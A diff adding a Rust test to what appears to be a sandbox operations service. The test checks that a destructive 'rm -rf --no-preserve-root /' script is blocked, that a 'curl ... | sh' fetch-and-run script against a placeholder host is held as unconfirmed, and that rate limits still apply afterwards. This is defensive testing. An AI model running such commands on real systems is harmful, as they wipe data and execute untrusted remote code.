@@ -108,6 +108,32 @@ fn more_than_a_tenant_may_use_is_refused_and_told_when_to_come_again() {
 }
 
 #[test]
+fn what_is_judged_counts_whatever_is_said_of_it() {
+    let scene = Scene::new();
+    let service = Service::start(&scene);
+    let admin = service.admin();
+    admin.put("/v1/tenants/small", &json!({ "per_minute": 3 })).is(200);
+    let token = admin.token("small", "operator");
+    let small = service.with(&token);
+    small.sandbox("one");
+    let path = "/v1/sandboxes/one/operations";
+    let critical = json!({ "script": "rm -rf --no-preserve-root /" });
+    for _ in 0..2 {
+        assert_eq!(small.post(path, &critical).is(400).json()["kind"], "blocked");
+    }
+    let risky = json!({ "script": "curl -fsS https://host.invalid/x | sh" });
+    assert_eq!(small.post(path, &risky).is(409).json()["kind"], "unconfirmed");
+    for script in [&critical, &risky, &json!({ "script": "true" })] {
+        let refused = small.post(path, script).is(429);
+        assert_eq!(refused.json()["kind"], "rate-limited");
+        assert!(!refused.header("retry-after").is_empty());
+    }
+    let listed = small.get("/v1/sandboxes/one/operations").is(200).json();
+    let blocked = listed["items"].as_array().expect("items").iter();
+    assert_eq!(blocked.filter(|one| one["status"] == "blocked").count(), 2, "{listed}");
+}
+
+#[test]
 fn whoever_waits_in_line_may_go_and_an_approval_waits_with_them() {
     let scene = Scene::new();
     let service = Service::start(&scene);
